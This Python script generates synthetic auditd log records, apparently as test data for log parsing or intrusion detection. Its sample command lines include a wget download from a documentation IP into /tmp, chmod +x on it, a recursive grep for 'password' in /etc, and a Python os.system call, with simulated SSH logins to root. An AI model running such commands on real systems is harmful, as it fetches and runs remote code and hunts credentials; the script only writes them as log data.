#!/usr/bin/env python3
"""Writes an audit.log of N records (RAW format, the shapes of auditd 3.x): executions of
SYSCALL + EXECVE + CWD + PATH + PATH + PROCTITLE (6 records, some arguments hex-encoded), user-space
logins (USER_AUTH, CRED_ACQ, USER_START) and plain syscalls (SYSCALL + CWD + PATH + PROCTITLE).
Usage: gen-audit.py N OUT"""
import random, sys

n, out = int(sys.argv[1]), sys.argv[2]
rnd = random.Random(13)
H = lambda s: s.encode().hex().upper()
programs = [("/usr/bin/ls", ["ls", "-la", "/var/www"]), ("/usr/bin/wget", ["wget", "-q", "-O", "/tmp/x", "http://203.0.113.9/x"]),
            ("/usr/bin/grep", ["grep", "-r", "password", "/etc"]), ("/usr/bin/bash", ["bash", "-c", "echo hello world | base64 -d"]),
            ("/usr/bin/python3.11", ["python3", "-c", "import os; os.system('id')"]), ("/usr/bin/chmod", ["chmod", "+x", "/tmp/x"])]
t, serial, written = 1709349302.0, 1000, 0
with open(out, "w") as f:
    while written < n:
        t += rnd.random() * 0.05
        serial += 1
        stamp = f"msg=audit({t:.3f}:{serial}):"
        pid = rnd.randint(1000, 60000)
        ids = f"auid={rnd.choice([0, 1000, 1001, 4294967295])} uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses={rnd.randint(1, 50)}"
        kind = rnd.random()
        if kind < 0.6:
            exe, argv = rnd.choice(programs)
            args = " ".join(f"a{i}={H(a) if ' ' in a else chr(34) + a + chr(34)}" for i, a in enumerate(argv))
            rec = [f"type=SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 a0=55d1c0a3e2a0 a1=55d1c0a3e2d0 a2=55d1c0a3e300 a3=8 items=2 ppid={pid - 1} pid={pid} {ids} comm=\"{argv[0]}\" exe=\"{exe}\" subj=unconfined key=\"exec\"",
                   f"type=EXECVE {stamp} argc={len(argv)} {args}",
                   f"type=CWD {stamp} cwd=\"/root\"",
                   f"type=PATH {stamp} item=0 name=\"{exe}\" inode=4411 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
                   f"type=PATH {stamp} item=1 name=\"/lib64/ld-linux-x86-64.so.2\" inode=2621 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
                   f"type=PROCTITLE {stamp} proctitle={H(chr(0).join(argv))}"]
        elif kind < 0.8:
            typ = rnd.choice(["USER_AUTH", "CRED_ACQ", "USER_START", "USER_END"])
            rec = [f"type={typ} {stamp} pid={pid} uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=PAM:authentication grantors=pam_unix acct=\"{rnd.choice(['root', 'admin', 'deploy'])}\" exe=\"/usr/sbin/sshd\" hostname=203.0.113.{rnd.randint(1, 254)} addr=203.0.113.{rnd.randint(1, 254)} terminal=ssh res={rnd.choice(['success', 'failed'])}'"]
        else:
            rec = [f"type=SYSCALL {stamp} arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffd10 a2=241 a3=1b6 items=1 ppid={pid - 1} pid={pid} {ids} comm=\"tee\" exe=\"/usr/bin/tee\" subj=unconfined key=\"etc\"",
                   f"type=CWD {stamp} cwd=\"/root\"",
                   f"type=PATH {stamp} item=0 name=\"/etc/hosts\" inode=77 dev=08:01 mode=0100644 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
                   f"type=PROCTITLE {stamp} proctitle={H('tee' + chr(0) + '/etc/hosts')}"]
        f.write("\n".join(rec) + "\n")
        written += len(rec)
